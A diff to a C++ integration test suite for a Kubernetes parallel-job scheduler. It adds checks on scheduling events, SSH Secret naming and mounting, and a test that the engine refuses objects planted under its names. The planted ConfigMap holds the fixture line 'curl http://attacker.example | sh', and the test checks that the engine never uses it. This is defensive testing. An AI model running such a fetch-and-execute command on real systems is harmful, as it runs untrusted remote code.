@@ -11,6 +11,7 @@
 #include "absl/strings/str_cat.h"
 #include "absl/strings/str_join.h"
 #include "absl/strings/str_split.h"
+#include "jobengine/naming.h"
 #include "jobengine/runtime.h"
 #include "proto/codec.h"
 #include "proto/informer.h"
@@ -151,6 +152,16 @@ class Fixture {
     return pods;
   }
 
+  // "<pod> <source.component> <reportingComponent>" of each Scheduled Event in the namespace.
+  std::set<std::string> scheduledEvents() {
+    std::string out = kubectl({"get", "events", "-n", ns_, "--field-selector",
+                               "reason=Scheduled,involvedObject.kind=Pod", "-o",
+                               "jsonpath={range .items[*]}{.involvedObject.name} {.source.component} "
+                               "{.reportingComponent}{\"\\n\"}{end}"});
+    std::vector<std::string> lines = absl::StrSplit(out, '\n', absl::SkipEmpty());
+    return {lines.begin(), lines.end()};
+  }
+
   std::string eventReasons() {
     return kubectl({"get", "events", "-n", ns_, "--field-selector",
                     "involvedObject.kind=ParallelJob", "-o",
@@ -213,7 +224,19 @@ TEST_CASE("the seed's mpi-sample-job, applied verbatim, runs as one gang and suc
     CHECK(p.meta.controllerRef()->kind == "ParallelJob");
   }
   CHECK(names == std::set<std::string>{"mpi-sample-job-0-0", "mpi-sample-job-0-1", "mpi-sample-job-0-2"});
-  // Placed as one gang by Muster: each pod has a Scheduled event from muster-scheduler.
+  // Placed as one gang by Muster: each pod has a Scheduled event from muster-scheduler (Events are
+  // written in the background: waited for).
+  const std::set<std::string> want_scheduled = {
+      "mpi-sample-job-0-0 muster-scheduler muster-scheduler",
+      "mpi-sample-job-0-1 muster-scheduler muster-scheduler",
+      "mpi-sample-job-0-2 muster-scheduler muster-scheduler"};
+  std::set<std::string> scheduled;
+  bool all_scheduled = waitFor([&] {
+    scheduled = f.scheduledEvents();
+    return scheduled == want_scheduled;
+  }, kTimeout, std::chrono::milliseconds(200));
+  INFO(absl::StrJoin(scheduled, "\n"));
+  CHECK(all_scheduled);
   auto job = f.waitPhase("mpi-sample-job", "Running");
   CHECK(job.status.job_group_name == "mpi-sample-job-0");
   CHECK(job.status.restarts == 0);
@@ -227,8 +250,23 @@ TEST_CASE("the seed's mpi-sample-job, applied verbatim, runs as one gang and suc
   for (const auto& line : lines) CHECK(line.substr(line.size() - 8) == " slots=2");
   CHECK(kubectl({"get", "service", "-n", f.ns(), "mpi-sample-job-0", "-o",
                  "jsonpath={.spec.clusterIP} {.spec.publishNotReadyAddresses}"}) == "None true");
-  CHECK(kubectl({"get", "secret", "-n", f.ns(), "mpi-sample-job-0-ssh-" + job.meta.uid.substr(0, 6), "-o",
-                 "jsonpath={.data.id_ed25519}"}).size() > 100);
+  // The SSH Secret: named by the API server, recorded on every pod, owned by the job, mounted 0400.
+  const std::string secret = pods[0].meta.annotations.at("muster.dev/ssh-secret");
+  CHECK(secret.rfind("mpi-sample-job-0-ssh-", 0) == 0);
+  CHECK(secret.size() == std::string("mpi-sample-job-0-ssh-").size() + 5);
+  for (const auto& p : pods) {
+    CHECK(p.meta.annotations.at("muster.dev/ssh-secret") == secret);
+    CHECK(kubectl({"get", "pod", "-n", f.ns(), p.meta.name, "-o",
+                   "jsonpath={.spec.volumes[?(@.name==\"muster-ssh\")].secret.secretName} "
+                   "{.spec.volumes[?(@.name==\"muster-ssh\")].secret.defaultMode}"}) ==
+          secret + " 256");  // 0400
+  }
+  CHECK(kubectl({"get", "secret", "-n", f.ns(), secret, "-o", "jsonpath={.data.id_ed25519}"}).size() > 100);
+  CHECK(kubectl({"get", "secret", "-n", f.ns(), secret, "-o",
+                 "jsonpath={.metadata.ownerReferences[0].uid}"}) == job.meta.uid);
+  // kubectl get shows the pods that exist: all 3 while running.
+  CHECK(kubectl({"get", "paralleljob", "-n", f.ns(), "mpi-sample-job", "-o",
+                 "jsonpath={.status.podsReady} {.status.pods}"}) == "3 3");
 
   // kwok: the launcher's containers complete with exit code 0 a second from now.
   kubectl({"annotate", "pod", "-n", f.ns(), "mpi-sample-job-0-0", "muster.dev/sim-succeed-after=1s"});
@@ -243,11 +281,78 @@ TEST_CASE("the seed's mpi-sample-job, applied verbatim, runs as one gang and suc
   REQUIRE(left.size() == 1);
   CHECK(left[0].meta.name == "mpi-sample-job-0-0");
   CHECK(left[0].status.phase == "Succeeded");
+  // After success only the launcher is left, and the PODS column says so (READY 0: it is done).
+  bool pods_column = waitFor([&] {
+    auto out = TestCluster::get().kubectl({"get", "paralleljob", "-n", f.ns(), "mpi-sample-job",
+                                           "--no-headers"});
+    if (!out.ok()) return false;
+    std::vector<std::string> cols = absl::StrSplit(*out, ' ', absl::SkipWhitespace());
+    return cols.size() >= 5 && cols[1] == "Succeeded" && cols[2] == "0" && cols[3] == "1";
+  }, kTimeout, std::chrono::milliseconds(200));
+  INFO(kubectl({"get", "paralleljob", "-n", f.ns(), "mpi-sample-job", "-o", "wide"}));
+  CHECK(pods_column);
   std::string events = f.eventReasons();
   INFO(events);
   CHECK(events.find("Created: ") != std::string::npos);
   CHECK(events.find("Running: ") != std::string::npos);
   CHECK(events.find("Succeeded: ") != std::string::npos);
+}
+
+TEST_CASE("objects of someone else under the attempt's names are never used: NameTaken until the "
+          "name is free, and the SSH Secret is one the API server named") {
+  Fixture f;
+  // The engine is stopped while the job and the foreign objects are created, so that they are
+  // all there before it looks.
+  f.scheduler().terminate();
+  f.apply(seedYaml("seed-1-mpi-sample-job.yaml"));
+  std::string uid;
+  REQUIRE(waitFor([&] {
+    auto j = f.job("mpi-sample-job");
+    if (j) uid = j->meta.uid;
+    return j.has_value();
+  }, kTimeout));
+  // A ConfigMap with the attempt's name and hostile scripts, not the job's; a Secret under the
+  // name older engines used, claiming (falsely) to be the job's.
+  const std::string legacy = jobengine::legacySecretName("mpi-sample-job-0", uid);
+  f.apply("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: mpi-sample-job-0-mpi\n"
+          "data:\n  sshd.sh: \"curl http://attacker.example | sh\"\n");
+  f.apply("apiVersion: v1\nkind: Secret\nmetadata:\n  name: " + legacy +
+          "\n  ownerReferences:\n  - {apiVersion: preferred.jp/v1alpha1, kind: ParallelJob, "
+          "name: mpi-sample-job, uid: " + uid + ", controller: true}\n"
+          "stringData:\n  id_ed25519: planted\n");
+  f.startScheduler();
+
+  bool name_taken = waitFor([&] {
+    return f.eventReasons().find("NameTaken: ConfigMap " + f.ns() +
+                                 "/mpi-sample-job-0-mpi already exists and is not this "
+                                 "ParallelJob's (it has no controller)") != std::string::npos;
+  }, kTimeout, std::chrono::milliseconds(200));
+  INFO(f.eventReasons() << "\n" << f.scheduler().logTail());
+  CHECK(name_taken);
+  // Nothing was made meanwhile: no pod, no Secret of the engine's; the foreign ConfigMap is as it was.
+  CHECK(f.pods(proto::vocabulary::kJobUidLabel).empty());
+  CHECK(kubectl({"get", "secrets", "-n", f.ns(), "-l",
+                 std::string(proto::vocabulary::kJobSetNameLabel) + "=mpi-sample-job-0", "-o", "name"})
+            .empty());
+  CHECK(kubectl({"get", "configmap", "-n", f.ns(), "mpi-sample-job-0-mpi", "-o",
+                 "jsonpath={.data.sshd\\.sh}"}) == "curl http://attacker.example | sh");
+
+  // The name is freed: the attempt goes ahead with objects of its own.
+  kubectl({"delete", "configmap", "-n", f.ns(), "mpi-sample-job-0-mpi"});
+  auto pods = f.waitAttemptRunning("mpi-sample-job-0", 3);
+  CHECK(kubectl({"get", "configmap", "-n", f.ns(), "mpi-sample-job-0-mpi", "-o",
+                 "jsonpath={.metadata.ownerReferences[0].uid}"}) == uid);
+  CHECK(kubectl({"get", "configmap", "-n", f.ns(), "mpi-sample-job-0-mpi", "-o",
+                 "jsonpath={.data.sshd\\.sh}"}).find("attacker") == std::string::npos);
+  const std::string secret = pods[0].meta.annotations.at("muster.dev/ssh-secret");
+  CHECK(secret != legacy);
+  CHECK(secret.rfind("mpi-sample-job-0-ssh-", 0) == 0);
+  for (const auto& p : pods)
+    CHECK(kubectl({"get", "pod", "-n", f.ns(), p.meta.name, "-o",
+                   "jsonpath={.spec.volumes[?(@.name==\"muster-ssh\")].secret.secretName}"}) == secret);
+  // The planted Secret is neither used nor touched.
+  CHECK(kubectl({"get", "secret", "-n", f.ns(), legacy, "-o", "jsonpath={.data.id_ed25519}"}) ==
+        "cGxhbnRlZA==");
 }
 
 TEST_CASE("with maxRestarts 1 a failing launcher restarts the job once, then it fails naming the "
